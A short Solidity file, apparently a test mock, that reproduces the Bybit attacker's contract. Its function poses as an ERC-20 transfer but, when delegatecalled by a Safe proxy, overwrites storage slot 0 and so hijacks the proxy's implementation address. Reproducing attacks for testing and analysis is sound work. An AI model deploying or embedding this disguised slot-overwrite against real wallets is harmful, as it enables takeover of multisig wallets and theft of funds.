// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @notice Behaves as the Bybit attacker's contract at 0x96221423681A6d52E184D440a8eFCEbB105C7242
/// (and the WazirX helper): a function that looks like ERC-20 `transfer(address,uint256)` but,
/// when DELEGATECALLed by a Safe proxy, writes its first argument into storage slot 0, which is
/// the proxy's singleton (implementation). No event is emitted, as on mainnet.
contract SlotZeroWriter {
    function transfer(address recipient, uint256) external {
        assembly {
            sstore(0, recipient)
        }
    }
}
